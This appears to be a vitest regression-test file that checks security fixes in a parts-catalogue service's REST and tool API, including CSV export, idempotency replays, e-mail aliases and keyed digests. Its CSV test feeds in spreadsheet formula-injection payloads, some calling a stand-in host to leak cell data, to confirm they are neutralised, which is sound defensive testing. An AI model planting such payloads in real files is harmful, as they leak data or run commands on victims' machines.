/**
 * Regression tests for the data, ledger and store findings of the attack run (issue 11): each
 * `it` names the numbered finding it covers. Public surfaces only (REST on loopback, the
 * in-memory MCP client), plus the database file itself where the finding is about the file.
 */
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Database from 'better-sqlite3';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Config } from '../../src/config.js';
import { buildDeps, type Deps } from '../../src/deps.js';
import { startHttpServer } from '../../src/http/app.js';
import { silentLogger } from '../../src/log.js';
import { MIGRATIONS } from '../../src/store/migrations.js';
import { catalogueData, sampleEntities } from '../support/factory.js';
import { testConfig } from '../support/deps.js';
import { startTestServer } from '../support/http.js';
import { call, errorBody, memoryClient } from '../support/mcp.js';
import { bearer, http, postJson, registerKey } from '../accounts-e2e/helpers.js';

function tempDir(): { dir: string; cleanup: () => void } {
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'rp-hardening-'));
  return { dir, cleanup: () => fs.rmSync(dir, { recursive: true, force: true }) };
}

/**
 * Would a spreadsheet evaluate this CSV cell as a formula? Written independently of the
 * service's neutraliser: a cell is text when it starts with an apostrophe; otherwise every
 * leading code point a spreadsheet may skip (C0/C1 controls, white space, zero-width and
 * bidi format characters, the BOM) is skipped, and the first one left is checked against the
 * formula characters and their full-width and small forms.
 */
const SKIPPED = (cp: number) =>
  cp <= 0x20 ||
  (cp >= 0x7f && cp <= 0xa0) ||
  cp === 0xad ||
  cp === 0x1680 ||
  (cp >= 0x2000 && cp <= 0x200f) ||
  (cp >= 0x2028 && cp <= 0x202f) ||
  (cp >= 0x205f && cp <= 0x206f) ||
  cp === 0x3000 ||
  cp === 0xfeff;
const FORMULA_START = new Set([..."=+-@＝＋－＠﹦﹢﹣﹫−"].map((c) => c.codePointAt(0)!));
function evaluatedAsFormula(cell: string): boolean {
  if (cell.startsWith("'")) return false;
  for (const ch of cell) {
    const cp = ch.codePointAt(0)!;
    if (SKIPPED(cp)) continue;
    return FORMULA_START.has(cp);
  }
  return false;
}

const NUMERIC = new Set(['line', 'quantity', 'unit_price', 'line_total']);

describe('finding 1: CSV cells', () => {
  const PAYLOADS = [
    '\u0000=HYPERLINK("http://x.example/?"&[.C2],"click")',
    '\u0000=WEBSERVICE("http://x.example/")',
    ...['\u000b', '\u000c', '\n', '\u00a0', '\u3000', '\ufeff', '\u200b', '\u202e', '\u2028', '\u0085', ' '].map((lead) => `${lead}=1+1`),
    '＝1+1',
    '＋1+1',
    '－1+1',
    '＠SUM(A1)',
    '\u200b\u00a0＝cmd|x',
    '=plain',
    '+plain',
    '-plain',
    '@plain',
  ];

  it('finding 1: no cell of an exported CSV would be evaluated as a formula (invisible, white-space and full-width leads)', async () => {
    const deps = buildDeps(testConfig(), { log: silentLogger, catalogueData: catalogueData(sampleEntities()) });
    const { client, close } = await memoryClient(deps);
    try {
      const key = ((await call(client, 'register_key', { email: 'csv@example.com' })).structuredContent as { api_key: string }).api_key;
      const items = PAYLOADS.map((p, i) => ({ id: `X-${i}`, name: p, manufacturer: p, specs: p, supplier: p, category: p, price: 1, quantity: 1 }));
      const r = await call(client, 'export_bom', { api_key: key, items, currency: 'CNY', include_suppliers: true });
      expect(r.isError).toBeFalsy();
      const csv = (r.structuredContent as { csv: string }).csv;
      const rows = parse(csv, { bom: true, relax_column_count: false }) as string[][];
      const [header, ...body] = rows;
      expect(body.length).toBe(PAYLOADS.length + 1);
      const bad: string[] = [];
      let checked = 0;
      for (const row of body) {
        row.forEach((cell, i) => {
          if (NUMERIC.has(header[i])) return;
          checked++;
          if (evaluatedAsFormula(cell)) bad.push(`${header[i]}: ${JSON.stringify(cell)}`);
        });
      }
      expect(checked).toBeGreaterThan(PAYLOADS.length * 5);
      expect(bad).toEqual([]);
      // The text itself is kept (after the apostrophe): names survive verbatim.
      const nameCol = header.indexOf('name');
      expect(body.slice(0, PAYLOADS.length).map((row) => row[nameCol].replace(/^'/, ''))).toEqual(PAYLOADS.map((p) => p.replace(/\r\n/g, '\n')));
    } finally {
      await close();
      deps.close();
    }
  });
});

describe('finding 4: stored replays expire', () => {
  const tmp = tempDir();
  afterAll(() => tmp.cleanup());

  it('finding 4: an Idempotency-Key replay lives replayTtlHours, an account keeps at most maxReplaysPerAccount', async () => {
    let now = Date.parse('2026-01-01T00:00:00Z');
    const file = path.join(tmp.dir, 'replays.db');
    const deps = buildDeps(testConfig({ dbPath: file, replayTtlHours: 1, maxReplaysPerAccount: 3 } as Partial<Config>), {
      log: silentLogger,
      catalogueData: catalogueData(sampleEntities()),
      clock: () => new Date(now),
    });
    const srv = await startHttpServer(deps);
    const count = () => {
      const db = new Database(file, { readonly: true });
      try {
        return (db.prepare('SELECT COUNT(*) AS n FROM idempotency_records').get() as { n: number }).n;
      } finally {
        db.close();
      }
    };
    try {
      const key = await registerKey(srv.url, 'replay@example.com');
      const exportWith = (idem: string) =>
        http(`${srv.url}/api/bom/export`, {
          method: 'POST',
          json: { format: 'json', items: [{ id: 'ACT-001', price: 2, quantity: 3 }] },
          headers: { ...bearer(key), 'idempotency-key': idem },
        });
      const first = await exportWith('k-1');
      expect(first.status).toBe(200);
      expect(first.headers.get('x-credits-remaining')).toBe('99');
      const replay = await exportWith('k-1');
      expect(replay.headers.get('idempotent-replayed')).toBe('true');
      expect(replay.headers.get('x-credits-remaining')).toBe('99');
      expect(count()).toBe(1);

      now += 2 * 3_600_000; // past the 1 h TTL: the stored replay is gone, a retry is a new call
      const late = await exportWith('k-1');
      expect(late.status).toBe(200);
      expect(late.headers.get('idempotent-replayed')).toBeNull();
      expect(late.headers.get('x-credits-remaining')).toBe('98');
      expect(count()).toBe(1);

      for (const k of ['k-2', 'k-3', 'k-4', 'k-5']) expect((await exportWith(k)).status).toBe(200);
      expect(count()).toBe(3); // the cap: the three newest
      expect((await exportWith('k-5')).headers.get('idempotent-replayed')).toBe('true');
      expect((await exportWith('k-2')).headers.get('idempotent-replayed')).toBeNull(); // dropped by the cap: charged again
      expect((await postJson(`${srv.url}/api/credits/balance`, {}, bearer(key))).body).toMatchObject({ credits: 100 - 7 }); // k-1, k-1 after expiry, k-2..k-5, k-2 after the cap

      now += 2 * 3_600_000;
      expect(await deps.accounts['ledger'].pruneReplays(new Date(now))).toBe(3);
      expect(count()).toBe(0);
    } finally {
      await srv.close();
      deps.close();
    }
  });
});

describe('finding 5: one mailbox, keyed digests, no e-mail oracle', () => {
  let srv: Awaited<ReturnType<typeof startTestServer>>;
  beforeAll(async () => {
    srv = await startTestServer(sampleEntities());
  });
  afterAll(async () => {
    await srv.stop();
  });

  it('finding 5: dots, +tags and googlemail.com reach the same gmail mailbox: one free key', async () => {
    expect((await postJson(`${srv.url}/api/register`, { email: 'john.doe@gmail.com' })).status).toBe(200);
    for (const alias of ['johndoe@gmail.com', 'J.O.H.N.D.O.E@gmail.com', 'john.doe+promo@gmail.com', 'johndoe+x@googlemail.com', 'john.doe@GoogleMail.com']) {
      const r = await postJson(`${srv.url}/api/register`, { email: alias });
      expect(r.status, alias).toBe(409);
      expect(r.body, alias).toMatchObject({ code: 'already_registered' });
    }
    // Elsewhere a +tag is the same mailbox, but dots are significant.
    expect((await postJson(`${srv.url}/api/register`, { email: 'ann.lee@example.com' })).status).toBe(200);
    expect((await postJson(`${srv.url}/api/register`, { email: 'ann.lee+2@example.com' })).status).toBe(409);
    expect((await postJson(`${srv.url}/api/register`, { email: 'annlee@example.com' })).status).toBe(200);
  });

  it('finding 5: the mailbox rules are configurable (none = exact addresses)', async () => {
    const exact = await startTestServer(sampleEntities(), { mailboxRules: ['none'] });
    try {
      expect((await postJson(`${exact.url}/api/register`, { email: 'john.doe@gmail.com' })).status).toBe(200);
      expect((await postJson(`${exact.url}/api/register`, { email: 'johndoe+x@gmail.com' })).status).toBe(200);
      expect((await postJson(`${exact.url}/api/register`, { email: 'JOHN.DOE@gmail.com' })).status).toBe(409);
    } finally {
      await exact.stop();
    }
  });

  it('finding 5: create_payment with an e-mail alone answers alike for registered and unregistered addresses', async () => {
    await registerKey(srv.url, 'known@example.com');
    const known = await postJson(`${srv.url}/api/payment/create`, { plan: 'starter', email: 'known@example.com' });
    const unknown = await postJson(`${srv.url}/api/payment/create`, { plan: 'starter', email: 'unknown@example.com' });
    expect(known.status).toBe(unknown.status);
    expect(known.body).toEqual(unknown.body);
  });

  it('finding 5: digests are keyed with the server secret; rows from before are re-keyed by the migration and still work', async () => {
    const tmp = tempDir();
    try {
      const file = path.join(tmp.dir, 'legacy.db');
      // A database as the previous release left it: migrations 1-6, one account with plain SHA-256 digests.
      const sha256 = (t: string) => crypto.createHash('sha256').update(t).digest('hex');
      const legacyKey = 'gtk_' + crypto.randomBytes(24).toString('base64url');
      const old = new Database(file);
      old.exec('CREATE TABLE schema_migrations (version INTEGER PRIMARY KEY, name TEXT NOT NULL, applied_at TEXT NOT NULL)');
      for (const m of MIGRATIONS.filter((m) => m.version <= 6)) {
        old.exec(m.sql);
        old.prepare('INSERT INTO schema_migrations VALUES (?, ?, ?)').run(m.version, m.name, new Date().toISOString());
      }
      old.prepare("INSERT INTO accounts VALUES ('acc-legacy', ?, ?, 'free', 0, 0, '2025-01-01T00:00:00Z')").run(sha256(legacyKey), sha256('legacy@example.com'));
      old.prepare("INSERT INTO ledger_entries (account_id, delta, reason, reference, created_at) VALUES ('acc-legacy', 100, 'grant', 'registration', '2025-01-01T00:00:00Z')").run();
      old.prepare("UPDATE accounts SET credits = 100 WHERE id = 'acc-legacy'").run();
      old.close();

      const secretFile = path.join(tmp.dir, 'server.secret');
      const s = await startTestServer(sampleEntities(), { dbPath: file, secretFile } as Partial<Config>);
      let secret: string;
      try {
        secret = fs.readFileSync(secretFile, 'utf8').trim();
        expect(secret.length).toBeGreaterThanOrEqual(32);
        // The legacy key still authenticates; the legacy address is still taken.
        expect((await postJson(`${s.url}/api/credits/balance`, {}, bearer(legacyKey))).body).toMatchObject({ credits: 100 });
        expect((await postJson(`${s.url}/api/register`, { email: 'legacy@example.com' })).status).toBe(409);
        const fresh = await registerKey(s.url, 'fresh@example.com');
        expect((await postJson(`${s.url}/api/credits/balance`, {}, bearer(fresh))).status).toBe(200);
      } finally {
        await s.stop();
      }
      const hmac = (t: string) => crypto.createHmac('sha256', secret).update(sha256(t)).digest('hex');
      const db = new Database(file, { readonly: true });
      const rows = db.prepare('SELECT id, key_digest, email_digest, digest_version FROM accounts ORDER BY created_at').all() as {
        id: string;
        key_digest: string;
        email_digest: string;
        digest_version: number;
      }[];
      db.close();
      const legacy = rows.find((r) => r.id === 'acc-legacy')!;
      expect(legacy).toMatchObject({ key_digest: hmac(legacyKey), email_digest: hmac('legacy@example.com'), digest_version: 2 });
      const all = fs.readFileSync(file);
      for (const plain of [sha256(legacyKey), sha256('legacy@example.com'), sha256('fresh@example.com')]) expect(all.includes(Buffer.from(plain))).toBe(false);
      expect(rows.find((r) => r.id !== 'acc-legacy')!.email_digest).toBe(hmac('fresh@example.com'));

      // Opened with another secret, the database refuses instead of silently matching nothing.
      const other = buildDeps(testConfig({ dbPath: file, secret: 'another-secret-0123456789abcdef' } as Partial<Config>), {
        log: silentLogger,
        catalogueData: catalogueData(sampleEntities()),
      });
      await expect(other.ready).rejects.toThrow(/different server secret/);
      other.close();
    } finally {
      tmp.cleanup();
    }
  });
});

describe('finding 7: unit prices', () => {
  it('finding 7: price 1e308 is invalid_input naming the field, before any charge (REST and MCP)', async () => {
    const srv = await startTestServer(sampleEntities());
    const { client, close } = await memoryClient(srv.deps);
    try {
      const key = await registerKey(srv.url, 'inf@example.com');
      const items = [
        { id: 'ACT-001', price: 1e308, quantity: 2 },
        { id: 'ACT-002', price: 1e308, quantity: 1 },
      ];
      const r = await postJson(`${srv.url}/api/bom/export`, { format: 'json', items }, bearer(key));
      expect(r.status).toBe(400);
      expect(r.body).toMatchObject({ code: 'invalid_input', field: 'items.0.price' });
      expect(errorBody(await call(client, 'export_bom', { api_key: key, items, format: 'json' }))).toMatchObject({ code: 'invalid_input', field: 'items.0.price' });
      expect((await postJson(`${srv.url}/api/credits/balance`, {}, bearer(key))).body).toMatchObject({ credits: 100, api_calls: 0 });
      // The largest accepted price at the largest quantity still gives finite, schema-valid totals.
      const max = await call(client, 'export_bom', { api_key: key, format: 'json', items: [{ id: 'ACT-001', price: 1e12, quantity: 1_000_000 }, { id: 'ACT-002', price: 1e12, quantity: 1_000_000 }] });
      const meta = (max.structuredContent as { metadata: { total_cost: number; total_cost_text: string } }).metadata;
      expect(meta.total_cost_text).toBe('2000000000000000000');
      expect(Number.isFinite(meta.total_cost)).toBe(true);
    } finally {
      await close();
      await srv.stop();
    }
  });
});

describe('finding 8: search query size', () => {
  it('finding 8: search_parts.q has a length and a term limit (invalid_input naming q), and 16 terms still work', async () => {
    const srv = await startTestServer(sampleEntities());
    try {
      const huge = Array.from({ length: 600_000 }, (_, i) => `t${i.toString(36)}`).join(' ');
      const { client, close } = await memoryClient(srv.deps);
      try {
        expect(errorBody(await call(client, 'search_parts', { q: huge }))).toMatchObject({ code: 'invalid_input', field: 'q' });
        const seventeen = Array.from({ length: 17 }, (_, i) => `w${i}`).join(' ');
        expect(errorBody(await call(client, 'search_parts', { q: seventeen }))).toMatchObject({ code: 'invalid_input', field: 'q' });
        const sixteen = ['servo', ...Array.from({ length: 15 }, () => 'servo')].join(' ') + ' ' + Array.from({ length: 15 }, (_, i) => `s${i}`).join(' ');
        const atLimit = await call(client, 'search_parts', { q: sixteen }); // 16 distinct terms (repeats count once)
        expect(atLimit.isError).toBeFalsy();
        expect((atLimit.structuredContent as { meta: { terms: string[] } }).meta.terms).toHaveLength(16);
        const ok = await call(client, 'search_parts', { q: 'servo '.repeat(80).trim() });
        expect(ok.isError).toBeFalsy();
      } finally {
        await close();
      }
      const rest = await http(`${srv.url}/api/search?q=${encodeURIComponent('a '.repeat(400))}`);
      expect(rest.status).toBe(400);
      expect(rest.body).toMatchObject({ code: 'invalid_input', field: 'q' });
    } finally {
      await srv.stop();
    }
  });
});

describe('finding 13: file modes', () => {
  it('finding 13: the database, its WAL and shared-memory files and the secret file are created 0600', async () => {
    const tmp = tempDir();
    const old = process.umask(0o022);
    let deps: Deps | undefined;
    try {
      const file = path.join(tmp.dir, 'modes.db');
      deps = buildDeps(testConfig({ dbPath: file }), { log: silentLogger, catalogueData: catalogueData(sampleEntities()) });
      await deps.ready;
      await deps.accounts.register('modes@example.com');
      for (const f of [file, `${file}-wal`, `${file}-shm`, `${file}.secret`]) {
        expect(fs.existsSync(f), f).toBe(true);
        expect((fs.statSync(f).mode & 0o777).toString(8), f).toBe('600');
      }
    } finally {
      process.umask(old);
      deps?.close();
      tmp.cleanup();
    }
  });
});
